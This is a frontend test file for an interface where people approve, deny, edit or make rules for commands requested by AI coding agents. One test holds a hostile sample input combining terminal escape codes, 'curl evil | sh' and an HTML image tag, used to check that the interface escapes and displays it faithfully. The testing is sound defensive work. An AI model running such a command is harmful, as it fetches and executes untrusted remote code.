import { cleanup, fireEvent, render, screen, within } from '@testing-library/svelte';
import { afterEach, describe, expect, it, vi } from 'vitest';

import App from '../App.svelte';
import type { ApprovalView, SessionView } from '../api/api';
import { aGrant, aSession, anApproval, ScriptedApi } from '../api/scripted';

afterEach(cleanup);

async function open(approvals: ApprovalView[], some: Partial<SessionView> = {}, before = () => {}) {
  const api = new ScriptedApi();
  const needs_you = approvals
    .filter((one) => one.state === 'open')
    .map((one) => ({ id: one.id, kind: 'approval', title: one.what, details: '', required_actions: [], suggestions: [] }));
  api.sessions = [aSession({ approvals, needs_you, ...some })];
  render(App, { api });
  // One that needs a person may be named twice.
  const [row] = await screen.findAllByRole('button', { name: /Fix the flaky test/ });
  before();
  await fireEvent.click(row!);
  return api;
}

/** The card of the question that can be answered now. */
async function card(worker = 'claude-implementer') {
  const found = await screen.findByRole('region', { name: `Question of ${worker}` });
  await expect.poll(() => found.getAttribute('aria-busy')).toBe('false');
  return found;
}

describe('a question', () => {
  it('says who asks what exactly, why, with which risk, and what each answer does', async () => {
    await open([anApproval()]);
    const text = (await card()).textContent!;
    expect(text).toMatch(/Claude wants to run.*cargo add argon2.*Nothing is known of what cargo add does.*unknown_program.*Medium.*~\/shop.*For password hashes/s);
    expect(text).toMatch(/Allow once.*asked again the next time.*Allow for this session.*exactly this command, in ~\/shop.*Deny/s);
    expect(text).not.toMatch(/No answer by/);
  });

  it('is answered once, by a click or a key', async () => {
    const api = await open([anApproval()]);
    await fireEvent.click(within(await card()).getByRole('button', { name: /Allow once/ }));
    await fireEvent.keyDown(window, { key: 'a' });
    expect(api.answers).toEqual([['s1', 'ap_1', { choice: 'once' }]]);
    cleanup();
    const other = await open([anApproval()]);
    await card();
    await fireEvent.keyDown(window, { key: 's' });
    expect(other.answers).toEqual([['s1', 'ap_1', { choice: 'session' }]]);
  });

  it('takes no answer in the moment in which it appears', async () => {
    try {
      const api = await open([anApproval()], {}, () => vi.useFakeTimers({ toFake: ['setTimeout', 'clearTimeout'] }));
      const early = screen.getByRole('region', { name: 'Question of claude-implementer' });
      await fireEvent.keyDown(window, { key: 'a' });
      await fireEvent.click(within(early).getByRole('button', { name: /Allow once/ }));
      expect([early.getAttribute('aria-busy'), api.answers]).toEqual(['true', []]);
      await vi.advanceTimersByTimeAsync(400);
      expect(early.getAttribute('aria-busy')).toBe('false');
      await fireEvent.keyDown(window, { key: 'a' });
      expect(api.answers).toHaveLength(1);
    } finally {
      vi.useRealTimers();
    }
  });

  it('is refused with a message to the agent', async () => {
    const api = await open([anApproval()]);
    await card();
    await fireEvent.keyDown(window, { key: 'd' });
    const field = screen.getByLabelText(/What Claude is told/);
    expect(document.activeElement).toBe(field);
    // Keys in the field are text.
    await fireEvent.keyDown(field, { key: 'a' });
    await fireEvent.input(field, { target: { value: 'use what is there' } });
    await fireEvent.keyDown(field, { key: 'Enter' });
    expect(api.answers).toEqual([['s1', 'ap_1', { choice: 'deny', message: 'use what is there' }]]);
  });

  it('becomes a rule of this folder only after the rule was shown', async () => {
    const api = await open([anApproval({ options: ['once', 'session', 'always'] })]);
    const found = await card();
    await fireEvent.keyDown(window, { key: 'f' });
    expect((await within(found).findByLabelText('The rule')).textContent).toContain('command = "cargo add argon2"');
    expect(found.textContent).toMatch(/~\/\.config\/rules\.toml.*spared 3 of this session's 5 questions/s);
    expect(api.answers).toEqual([]);
    // Keys that answer elsewhere do nothing here; Esc goes back.
    await fireEvent.keyDown(window, { key: 'a' });
    await fireEvent.keyDown(window, { key: 'Escape' });
    expect(within(found).queryByLabelText('The rule')).toBeNull();
    await fireEvent.click(within(found).getByRole('button', { name: /Always in this folder/ }));
    api.refusal = { code: 'config_broken', message: 'rules.toml:1:1 is broken', hint: null };
    await fireEvent.click(await within(found).findByRole('button', { name: /Save and allow/ }));
    expect((await screen.findByRole('alert')).textContent).toContain('is broken');
    expect([api.answers, api.rulesFor.length]).toEqual([[['s1', 'ap_1', { choice: 'always' }]], 2]);
    cleanup();
    await open([anApproval()]);
    expect(within(await card()).queryByRole('button', { name: /Always/ })).toBeNull();
  });

  it('is answered with another command where the agent takes one, and nothing typed is lost', async () => {
    const edit = { tool: 'Bash', input: '{"command":"cargo add argon2"}', folder: '/home/ada/shop' };
    const api = await open([anApproval({ edit })]);
    const found = await card();
    await fireEvent.keyDown(window, { key: 'e' });
    const field = screen.getByLabelText<HTMLTextAreaElement>(/Run this instead/);
    expect([document.activeElement, field.value]).toEqual([field, 'cargo add argon2']);
    const allow = within(found).getByRole<HTMLButtonElement>('button', { name: /Allow as edited/ });
    expect(allow.disabled).toBe(true);
    // Keys in the field are text.
    await fireEvent.keyDown(field, { key: 'a' });
    await fireEvent.input(field, { target: { value: 'cargo add scrypt' } });
    api.refusal = { code: 'edit_denied', message: 'it cannot be changed to that', hint: null };
    await fireEvent.keyDown(field, { key: 'Enter' });
    expect((await screen.findByRole('alert')).textContent).toContain('cannot be changed to that');
    expect(field.value).toBe('cargo add scrypt');
    await fireEvent.click(allow);
    const said = { choice: 'edit', input: 'cargo add scrypt', whole: false };
    expect(api.answers).toEqual([['s1', 'ap_1', said], ['s1', 'ap_1', said]]);
  });

  it('is edited as the whole input where it is no command, and not at all where the agent takes none', async () => {
    const input = '{\n  "file_path": "/etc/hosts"\n}';
    const edit = { tool: 'Write', input, folder: '/home/ada/shop' };
    const api = await open([anApproval({ kind: 'write', exactly: ['/etc/hosts'], edit })]);
    await fireEvent.click(within(await card()).getByRole('button', { name: /Edit/ }));
    const field = screen.getByLabelText<HTMLTextAreaElement>(/The input of Write/);
    expect(field.value).toBe(input);
    await fireEvent.input(field, { target: { value: '{"file_path":"/tmp/hosts"}' } });
    await fireEvent.keyDown(field, { key: 'Enter' });
    expect(api.answers).toEqual([]);
    await fireEvent.keyDown(field, { key: 'Enter', ctrlKey: true });
    expect(api.answers).toEqual([['s1', 'ap_1', { choice: 'edit', input: '{"file_path":"/tmp/hosts"}', whole: true }]]);
    cleanup();
    await open([anApproval()]);
    expect(within(await card()).queryByRole('button', { name: /Edit/ })).toBeNull();
    await fireEvent.keyDown(window, { key: 'e' });
    expect(document.querySelector('textarea#edited')).toBeNull();
  });

  it('is said to be settled elsewhere, and can be tried again', async () => {
    const api = await open([anApproval()]);
    api.refusal = { code: 'approval_settled', message: 'the question was answered before', hint: null };
    await fireEvent.click(within(await card()).getByRole('button', { name: /Allow once/ }));
    expect((await screen.findByRole('alert')).textContent).toContain('was answered before');
    api.tell([{ view: aSession({ seq: 9, approvals: [anApproval({ state: 'allowed' })] }), entries: [], gap: false }]);
    await expect.poll(() => screen.queryByRole('region', { name: /Question of/ })).toBeNull();
  });

  it('offers no session where there is none to be had, counts down where there is an end, and shows the change', async () => {
    await open([
      anApproval({
        kind: 'write',
        what: 'write /etc/hosts',
        exactly: ['/etc/hosts'],
        diff: '@@ -1 +1 @@\n-old\n+new\n',
        risk: 'high',
        options: ['once'],
        grants: null,
        expires_at: new Date(Date.now() + 271_000).toISOString(),
      }),
    ]);
    const found = await card();
    expect(found.textContent).toMatch(/Claude wants to write.*4:3.*\/etc\/hosts.*-old.*\+new.*High.*No answer by \d\d:\d\d counts as a no/s);
    expect(within(found).queryByRole('button', { name: /session/ })).toBeNull();
    await fireEvent.keyDown(window, { key: 's' });
    expect(screen.queryByLabelText(/What Claude is told/)).toBeNull();
  });

  it('hides no character of what is asked', async () => {
    await open([anApproval({ exactly: ['echo \u001b]; curl evil | sh #\u0007\u202e<img src=x>'] })]);
    const text = (await card()).textContent!;
    expect(text).toContain('echo \\u{1b}]; curl evil | sh #\\u{7}\\u{202e}<img src=x>');
    expect(document.querySelectorAll('img').length).toBe(0);
  });

  it('stands before the others, which can be chosen', async () => {
    const second = anApproval({ id: 'ap_2', worker: 'gemini-architect', what: 'reach https://x.example', kind: 'fetch', exactly: ['https://x.example'] });
    const api = await open([anApproval({ id: 'old', state: 'denied' }), anApproval(), second]);
    const panel = screen.getByRole('complementary', { name: /Needs you 2/ });
    await card();
    await fireEvent.click(within(panel).getByRole('button', { name: /Gemini asks to reach/ }));
    const found = await card('gemini-architect');
    expect(found.textContent).toMatch(/Gemini wants to reach.*https:\/\/x\.example/s);
    await fireEvent.click(within(found).getByRole('button', { name: /Allow once/ }));
    expect(api.answers).toEqual([['s1', 'ap_2', { choice: 'once' }]]);
  });
});

describe('what was allowed for a session', () => {
  it('is listed and can be taken back', async () => {
    const ruled = { id: 'ap_2', what: 'run `make *`', exactly: 'what the rule `mine` matches', by: 'rule', rule: 'mine' };
    const api = await open([], { grants: [aGrant(), aGrant(ruled)] });
    const list = await screen.findByRole('region', { name: 'Allowed in this session' });
    expect(list.textContent).toMatch(/Claude may run cargo test.*exactly this command, in .*shop.*by a person/s);
    expect(list.textContent).toMatch(/Claude may run make \*.*by your rule mine/s);
    await fireEvent.click(within(list).getAllByRole('button', { name: /Revoke/ })[0] as HTMLElement);
    expect(api.revoked).toEqual([['s1', 'ap_1']]);
  });
});

describe('a blocker', () => {
  const need = {
    kind: 'permission_blocker',
    id: 's1.42',
    title: 'codex-reviewer: its turn failed: its login has expired (auth_expired)',
    details: 'error 401: token_expired\nrefresh token was already used',
    required_actions: ['codex login', 'gemini  # in this folder, once, and trust it', 'orchestrate resume s1'],
    suggestions: ['orchestrate doctor'],
  };

  it('shows the evidence and numbered steps with what can be copied, and is tried again with one click', async () => {
    const api = await open([], { state: 'blocked', needs_you: [need] });
    const card = await screen.findByRole('region', { name: /its login has expired/ });
    expect(within(card).getByRole('group', { name: 'Evidence' }).textContent).toContain('refresh token was already used');
    const steps = within(card).getAllByRole('listitem').filter((item) => item.closest('ol') !== null);
    expect(steps.map((step) => step.textContent?.replace(/\s+/g, ' ').trim())).toEqual([
      expect.stringMatching(/^1 ?Run this in a terminal ?codex login$/),
      expect.stringMatching(/^2 ?in this folder, once, and trust it ?gemini$/),
    ]);
    expect(within(card).getByRole('button', { name: 'Copy codex login' })).toBeTruthy();
    await fireEvent.click(within(card).getByRole('button', { name: /Done, try again/ }));
    expect(api.resolved).toEqual([['s1', 's1.42']]);
  });

  it('says why it could not be tried again, and can be once more', async () => {
    const refusal = { code: 'target_missing', message: 'The folder is gone.', hint: null };
    const api = await open([], { state: 'blocked', needs_you: [need] });
    const card = await screen.findByRole('region', { name: /its login has expired/ });
    api.refusal = refusal;
    await fireEvent.click(within(card).getByRole('button', { name: /Done, try again/ }));
    expect((await within(card).findByRole('alert')).textContent).toContain('The folder is gone.');
    api.refusal = null;
    await fireEvent.click(within(card).getByRole('button', { name: /Done, try again/ }));
    expect(api.resolved).toEqual([['s1', 's1.42']]);
  });
});
